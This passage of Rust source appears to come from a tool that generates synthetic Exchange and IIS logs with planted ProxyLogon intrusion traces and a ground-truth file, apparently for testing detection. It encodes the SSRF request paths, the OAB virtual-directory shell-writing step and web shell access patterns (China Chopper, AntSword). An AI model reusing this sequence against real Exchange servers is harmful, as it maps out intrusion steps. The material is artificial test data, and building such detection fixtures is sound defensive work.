    ssrf(
        &mut out,
        w,
        &mut rng,
        &mut r,
        (&mut b, &mut tail, &mut gi),
        t3,
        P_ECP,
        "/ecp/q.js",
        &format!("ServerInfo~zz{junk}/ecp/proxyLogon.ecp?#"),
        "",
        w.u.python,
        a_ip,
        241,
        "cve-2021-26855",
    );
    let t4 = ts(2021, 2, 11, 4, 30, 12, 455);
    ssrf(
        &mut out,
        w,
        &mut rng,
        &mut r,
        (&mut b, &mut tail, &mut gi),
        t4,
        P_ECP,
        "/ecp/q.js",
        &format!(
            "ServerInfo~zz{junk}/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}#"
        ),
        "",
        w.u.python,
        a_ip,
        200,
        "cve-2021-26855",
    );
    // only indicator: the back-end cookie (AnchorMailbox is the stolen administrator SID)
    let t5 = ts(2021, 2, 11, 4, 30, 31, 127);
    ssrf(
        &mut out,
        w,
        &mut rng,
        &mut r,
        (&mut b, &mut tail, &mut gi),
        t5,
        P_ECP,
        "/ecp/q.js",
        &format!("Sid~{SID_PREFIX}500"),
        &format!(
            "Server~ex01.contoso.local:444/ecp/DDI/DDIService.svc/GetList?schema=VirtualDirectories&msExchEcpCanary={canary}#~{POC_VER}"
        ),
        w.u.python,
        a_ip,
        200,
        "cve-2021-26855",
    );
    let t6 = ts(2021, 2, 11, 4, 30, 58, 190);
    ssrf(
        &mut out,
        w,
        &mut rng,
        &mut r,
        (&mut b, &mut tail, &mut gi),
        t6,
        P_ECP,
        "/ecp/q.js",
        &format!(
            "ServerInfo~zz{junk}/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}#"
        ),
        "",
        w.u.python,
        a_ip,
        200,
        "cve-2021-26855",
    );
    // ECP server log: the script-bearing Set-OabVirtualDirectory (two quoting layers)
    {
        let t = t6 + 24;
        let mut cmd = String::from("Set-OabVirtualDirectory.ExternalUrl='http://k/");
        cmd.push_str(&chopper("zq7w"));
        cmd.push_str("'.Identity='");
        let g = rng.guid();
        sguid(&mut cmd, &g);
        cmd.push('\'');
        let url = format!(
            "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}"
        );
        let mut ed = Vec::new();
        ecp_row(&mut b, &mut ed, &mut rng, t, &cmd, &url, "", 402);
        out.push(Plant {
            t,
            dest: Dest::Ecp,
            text: b.clone(),
            check: "cve-2021-27065",
        });
    }
    // the reset that writes the file: TPL's ResetVDir pattern (trailing '#', status 200)
    let t7 = ts(2021, 2, 11, 4, 31, 3, 644);
    ssrf(
        &mut out,
        w,
        &mut rng,
        &mut r,
        (&mut b, &mut tail, &mut gi),
        t7,
        P_ECP,
        "/ecp/q.js",
        &format!(
            "ServerInfo~zz{junk}/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory#"
        ),
        "",
        w.u.python,
        a_ip,
        200,
        "cve-2021-27065",
    );
    {
        // back end sees the proxied reset from the front end's machine account
        let rid = r.rid;
        r.reset(t7 - 3, rid, P_ECP);
        r.stem.push_str("/ecp/DDI/DDIService.svc/SetObject");
        r.query.push_str(&format!(
            "msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory"
        ));
        r.ua = w.u.python;
        r.is_auth = false;
        r.dur = 1432;
        iis_line(&mut b, &r, w, true, 0, &mut rng);
        out.push(Plant {
            t: t7 - 3,
            dest: Dest::W2,
            text: b.clone(),
            check: "iis-proxylogon-shape",
        });
    }
    // OAB generator: the file landed outside ClientAccess\OAB\Temp
    {
        let t = t7 + 911;
        oab_prefix(&mut b, w, t, 23, "Warning", "OABFileDownloader");
        ps(
            &mut b,
            "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\zq7w.aspx' needs to be removed.",
        );
        out.push(Plant {
            t,
            dest: Dest::Oab,
            text: b.clone(),
            check: "cve-2021-26858",
        });
    }
    let t8 = ts(2021, 2, 11, 4, 31, 40, 27);
    ssrf(
        &mut out,
        w,
        &mut rng,
        &mut r,
        (&mut b, &mut tail, &mut gi),
        t8,
        P_ECP,
        "/ecp/q.js",
        &format!(
            "ServerInfo~zz{junk}/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}#"
        ),
        "",
        w.u.python,
        a_ip,
        200,
        "cve-2021-26855",
    );

    // webshell access (IIS only)
    let shell = |out: &mut Vec<Plant>,
                 rng: &mut Rng,
                 r: &mut Req,
                 b: &mut Vec<u8>,
                 t: i64,
                 stem: &str,
                 ua: usize,
                 ip: [u8; 4]| {
        let rid = rng.guid();
        r.reset(t, rid, P_OWA);
        r.stem.push_str(stem);
        r.exch_vdir = stem.starts_with("/owa/");
        r.owa_suffix = r.exch_vdir;
        r.is_auth = false;
        r.ua = ua;
        r.cip = ip;
        r.dur = rng.lognorm(120.0, 0.5).max(20);
        iis_line(b, r, w, false, 0, rng);
        out.push(Plant {
            t,
            dest: Dest::W1,
            text: b.clone(),
            check: "iis-webshell-access",
        });
    };
    shell(
        &mut out,
        &mut rng,
        &mut r,
        &mut b,
        ts(2021, 2, 11, 4, 32, 2, 0),
        "/aspnet_client/zq7w.aspx",
        w.u.python,
        a_ip,
    );
    shell(
        &mut out,
        &mut rng,
        &mut r,
        &mut b,
        ts(2021, 2, 11, 4, 35, 17, 0),
        "/aspnet_client/system_web/Hx4mQ9zT.aspx",
        w.u.antsword,
        a_ip,
    );
    shell(
        &mut out,
        &mut rng,
        &mut r,
        &mut b,
        ts(2021, 2, 11, 4, 35, 49, 0),
        "/aspnet_client/system_web/Hx4mQ9zT.aspx",
        w.u.antsword,
        a_ip,
    );
    for (i, s) in [7, 19, 44, 58].iter().enumerate() {
        shell(
            &mut out,
            &mut rng,
            &mut r,
            &mut b,
            ts(2021, 2, 26, 13, 2 + i as i64, *s, 0),
            "/aspnet_client/system_web/Hx4mQ9zT.aspx",
            w.u.antsword,
            a2_ip,
        );
    }

    // actor B, 2021-03-03: a second exploitation wave up to the ECP session
    let tb = ts(2021, 3, 3, 2, 14, 6, 551);
    ssrf(
        &mut out,
        w,
        &mut rng,
        &mut r,
        (&mut b, &mut tail, &mut gi),
        tb,
        P_ECP,
        "/ecp/x.js",
        &format!("ServerInfo~b{junk}/autodiscover/autodiscover.xml?#"),
        "",
        w.u.ews_poc,
        b_ip,
        200,
        "cve-2021-26855",
    );
    ssrf(
        &mut out,
        w,
        &mut rng,
        &mut r,
        (&mut b, &mut tail, &mut gi),
        tb + 4_318,
        P_ECP,
        "/ecp/x.js",
        &format!("ServerInfo~b{junk}/mapi/emsmdb/?#"),
        "",
        w.u.ews_poc,
        b_ip,
        200,
        "cve-2021-26855",
    );
    ssrf(
        &mut out,
        w,
        &mut rng,
        &mut r,
        (&mut b, &mut tail, &mut gi),
        tb + 9_870,
        P_ECP,
        "/ecp/x.js",
        &format!("ServerInfo~b{junk}/ecp/proxyLogon.ecp?#"),
        "",
        w.u.ews_poc,
        b_ip,
        241,
        "cve-2021-26855",
    );
    // 2021-03-04 evening: shells used again
    shell(
        &mut out,
        &mut rng,
        &mut r,
        &mut b,
        ts(2021, 3, 4, 22, 10, 45, 0),
        "/owa/auth/k7tq2.aspx",
        w.u.antsword,
        a2_ip,
    );
    shell(
        &mut out,
        &mut rng,
        &mut r,
        &mut b,
        ts(2021, 3, 4, 22, 10, 51, 0),
        "/owa/auth/k7tq2.aspx",
        w.u.antsword,
        a2_ip,
    );
    shell(
        &mut out,
        &mut rng,
        &mut r,
        &mut b,
        ts(2021, 3, 4, 22, 11, 2, 0),
        "/aspnet_client/system_web/Hx4mQ9zT.aspx",
        w.u.antsword,
        a2_ip,
    );
    shell(
        &mut out,
        &mut rng,
        &mut r,
        &mut b,
        ts(2021, 3, 4, 22, 11, 9, 0),
        "/aspnet_client/system_web/Hx4mQ9zT.aspx",
        w.u.antsword,
        a2_ip,
    );

    out.sort_by_key(|p| p.t);
    out
}

// ----------------------------------------------------------------------------------------------
// CLI

struct Args {
    out: PathBuf,
    size: u64,
    seed: u64,
    plant: bool,
    share: f64,
    days: Option<u64>,
    rotate_mb: u64,
    mix: String,
    /// `--owa-static-share` .. `--noise-share`, indexed by `C_*`
    shares: [Option<f64>; C_OTHER],
    backend: Option<f64>,
}

/// The share flags, by class (`C_STATIC` ..).
const SHARE_FLAGS: [&str; C_OTHER] = [
    "--owa-static-share",
    "--ecp-admin-share",
    "--autodiscover-json-share",
    "--activesync-share",
    "--probe-share",
    "--noise-share",
];

/// The share-driven mix the arguments ask for; None: the original generator (`--mix sparse`
/// and no share flag).
fn mix_of(a: &Args) -> Option<Mix> {
    let mut m = Mix::preset(&a.mix).unwrap_or_else(|| usage());
    if m.name == "sparse" && a.shares.iter().all(Option::is_none) && a.backend.is_none() {
        return None;
    }
    for (c, v) in a.shares.iter().enumerate() {
        if let Some(v) = v {
            m.share[c] = *v;
        }
    }
    if let Some(b) = a.backend {
        m.backend = b;
    }
    if !m.finish() {
        eprintln!("gen_tree: the shares must be in 0..1 and add up to at most 1 ({m:?})");
        std::process::exit(2);
    }
    Some(m)
}

fn usage() -> ! {
    eprintln!(
        "usage: gen_tree --out DIR --size SIZE[K|M|G] [--seed N] [--plant] [--serverinfo-share F] [--days N] [--rotate-mb N]\n\
         \x20      [--mix sparse|dense] [--owa-static-share F] [--ecp-admin-share F] [--autodiscover-json-share F]\n\
         \x20      [--activesync-share F] [--backend-share F] [--probe-share F] [--noise-share F]"
    );
    std::process::exit(2)
}

fn parse_size(s: &str) -> Option<u64> {
    let s = s.trim();
    let (num, mult) = match s.chars().last()? {
        'k' | 'K' => (&s[..s.len() - 1], 1u64 << 10),
        'm' | 'M' => (&s[..s.len() - 1], 1 << 20),
        'g' | 'G' => (&s[..s.len() - 1], 1 << 30),
        _ => (s, 1),
    };
    let v: f64 = num.parse().ok()?;
    if v <= 0.0 {
        return None;
    }
    Some((v * mult as f64) as u64)
}

fn parse_args() -> Args {
    let mut a = Args {
        out: PathBuf::new(),
        size: 0,
        seed: 42,
        plant: false,
        share: 0.002,
        days: None,
        rotate_mb: 50,
        mix: "sparse".into(),
        shares: [None; C_OTHER],
        backend: None,
    };
    let mut it = std::env::args().skip(1);
    while let Some(k) = it.next() {
        let mut val = || it.next().unwrap_or_else(|| usage());
        match k.as_str() {
            "--out" => a.out = PathBuf::from(val()),
            "--size" => a.size = parse_size(&val()).unwrap_or_else(|| usage()),
            "--seed" => a.seed = val().parse().unwrap_or_else(|_| usage()),
            "--plant" => a.plant = true,
            "--serverinfo-share" => a.share = val().parse().unwrap_or_else(|_| usage()),
            "--days" => a.days = Some(val().parse().unwrap_or_else(|_| usage())),
            "--rotate-mb" => a.rotate_mb = val().parse().unwrap_or_else(|_| usage()),
            "--mix" => a.mix = val(),
            "--backend-share" => a.backend = Some(val().parse().unwrap_or_else(|_| usage())),
            f if SHARE_FLAGS.contains(&f) => {
                let c = SHARE_FLAGS.iter().position(|&x| x == f).unwrap();
                a.shares[c] = Some(val().parse().unwrap_or_else(|_| usage()));
            }
            "-h" | "--help" => usage(),
            _ => usage(),
        }
    }
    if a.out.as_os_str().is_empty()
        || a.size == 0
        || !(0.0..=1.0).contains(&a.share)
        || a.rotate_mb == 0
    {
        usage();
    }
    a
}

fn json_str(o: &mut String, s: &str) {
    o.push('"');
    for c in s.chars() {
        match c {
            '"' => o.push_str("\\\""),
            '\\' => o.push_str("\\\\"),
            '\n' => o.push_str("\\n"),
            '\r' => o.push_str("\\r"),
            '\t' => o.push_str("\\t"),
            c if (c as u32) < 0x20 => o.push_str(&format!("\\u{:04x}", c as u32)),
            c => o.push(c),
        }
    }
    o.push('"');
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let args = parse_args();
    let started = Instant::now();
    let root = args.out.clone();
    // clear what a previous run wrote (only our own subtrees)
    for sub in [format!("{EX}/Logging"), "inetpub/logs/LogFiles".to_string()] {
        let p = root.join(sub);
        if p.exists() {
            fs::remove_dir_all(&p)?;
        }
    }
    let gt_path = root.join("ground-truth.json");
    if gt_path.exists() {
        fs::remove_file(&gt_path)?;
    }
    fs::create_dir_all(&root)?;

    let days = match args.days {
        Some(d) => d.max(1),
        None => {
            let d = args.size.div_ceil(100_000_000).clamp(4, 30);
            if args.plant { d.max(30) } else { d }
        }
    };
    let end = ts(2021, 3, 10, 12, 0, 0, 0);
    let start = end - days as i64 * DAY;
    let hours = (days * 24) as usize;
    if args.plant && start > ts(2021, 2, 11, 0, 0, 0, 0) {
        eprintln!(
            "warning: --days {days} starts after the planted intrusion (2021-02-11); planted lines precede the benign ones"
        );
    }
    let world = World::new(args.seed);
    let plants = if args.plant {
        build_plants(&world, args.seed)
    } else {
        Vec::new()
    };
    let (mut p_main, mut p_ecp, mut p_oab) = (Vec::new(), Vec::new(), Vec::new());
    for p in plants {
        match p.dest {
            Dest::Ecp => p_ecp.push(p),
            Dest::Oab => p_oab.push(p),
            _ => p_main.push(p),
        }
    }
    let size = args.size;
    let mix = mix_of(&args);
    let (t_main, t_ecp) = match &mix {
        None => (size * 95 / 100, size * 4 / 100),
        Some(m) => (size * m.split[0] / 1000, size * m.split[1] / 1000),
    };
    let t_oab = size - t_main - t_ecp;
    let rotate = args.rotate_mb << 20;

    let mut hp = Vec::new();
    for p in PROTOS {
        hp.push(Roller::new(
            &root,
            format!("{EX}/Logging/HttpProxy/{p}"),
            Kind::HttpProxy,
            rotate,
        )?);
    }
    let w1 = Roller::new(
        &root,
        "inetpub/logs/LogFiles/W3SVC1".into(),
        Kind::Iis,
        u64::MAX,
    )?;
    let w2 = Roller::new(
        &root,
        "inetpub/logs/LogFiles/W3SVC2".into(),
        Kind::Iis,
        u64::MAX,
    )?;
    let mut main = Main {
        w: &world,
        rng: Rng::new(args.seed, 2),
        req: Req::default(),
        line: Vec::with_capacity(2048),
        tail: Vec::with_capacity(256),
        gi: Vec::with_capacity(1024),
        hp,
        w1,
        w2,
        clock: Clock::new(start, hours, true, &mut Rng::new(args.seed, 3)),
        target: t_main,
        bytes: 0,
        hp_bytes: 0,
        iis_bytes: 0,
        share: args.share,
        plants: p_main,
        pi: 0,
        gts: Vec::new(),
        hp_lines: 0,
        iis_lines: 0,
        si: [0; 3],
        mix,
        cls: [0; N_CLASS],
        be_lines: 0,
    };
    let seed = args.seed;
    let (side, main_res) = std::thread::scope(|s| {
        let wr = &world;
        let rr = &root;
        let h1 = s.spawn(move || ecp_stream(rr, wr, seed, t_ecp, start, hours, p_ecp));
        let h2 = s.spawn(move || oab_stream(rr, wr, seed, t_oab, start, hours, p_oab));
        let m = if main.mix.is_some() {
            main.run_mix()
        } else {
            main.run()
        };
        ((h1.join().unwrap(), h2.join().unwrap()), m)
    });
    main_res?;
    let (ecp, oab) = side;
    let (ecp_gt, ecp_bytes, ecp_lines) = ecp?;
    let (oab_gt, oab_bytes, oab_lines) = oab?;

    let hp_total: u64 = main.hp.iter().map(|r| r.total_bytes).sum();
    let hp_files: u64 = main.hp.iter().map(|r| r.files).sum();
    let iis_total = main.w1.total_bytes + main.w2.total_bytes;
    let total = hp_total + iis_total + ecp_bytes + oab_bytes;

    if args.plant {
        let mut gts = main.gts;
        gts.extend(ecp_gt);
        gts.extend(oab_gt);
        gts.sort_by(|a, b| {
            a.t.cmp(&b.t)
                .then_with(|| a.file.cmp(&b.file))
                .then(a.line.cmp(&b.line))
        });
        let mut o = String::from("[\n");
        for (i, g) in gts.iter().enumerate() {
            o.push_str("  {\"file\": ");
            json_str(&mut o, &g.file);
            o.push_str(&format!(", \"line\": {}, \"check\": ", g.line));
            json_str(&mut o, g.check);
            o.push_str(", \"text\": ");
            json_str(&mut o, &g.text);
            o.push('}');
            if i + 1 < gts.len() {
                o.push(',');
            }
            o.push('\n');
        }
        o.push_str("]\n");
        fs::write(&gt_path, o)?;
        eprintln!("planted {} lines -> {}", gts.len(), gt_path.display());
    }
    let pct = |x: u64| 100.0 * x as f64 / total.max(1) as f64;
    eprintln!(
        "span {} days ending 2021-03-10T12:00Z; wrote {:.1} MiB ({:.2}% of target) in {:.1}s",
        days,
        total as f64 / 1048576.0,
        100.0 * total as f64 / size as f64,
        started.elapsed().as_secs_f64()
    );
    eprintln!(
        "  HttpProxy {:.1}% ({} lines, {} files; ServerInfo~ benign: {} probe-style, {} autodiscover-only attempts, {} nmap localhost)",
        pct(hp_total),
        main.hp_lines,
        hp_files,
        main.si[0],
        main.si[1],
        main.si[2]
    );
    eprintln!(
        "  IIS {:.1}% ({} lines, {} files)",
        pct(iis_total),
        main.iis_lines,
        main.w1.files + main.w2.files
    );
    if let Some(m) = &main.mix {
        let n = main.iis_lines.max(1) as f64;
        let mut o = format!(
            "  mix {}: W3SVC2 {:.1}% of IIS lines (target {:.1}%)",
            m.name,
            100.0 * main.be_lines as f64 / n,
            100.0 * m.backend
        );
        for (c, name) in CLASS_NAMES.iter().enumerate() {
            o.push_str(&format!(
                "; {} {:.1}% ({:.1}%)",
                name,
                100.0 * main.cls[c] as f64 / n,
                100.0 * m.share[c]
            ));
        }
        eprintln!("{o}");
    }
    eprintln!(
        "  ECP server {:.1}% ({} lines), OAB generator {:.1}% ({} lines)",
        pct(ecp_bytes),
        ecp_lines,
        pct(oab_bytes),
        oab_lines
    );
    Ok(())
}
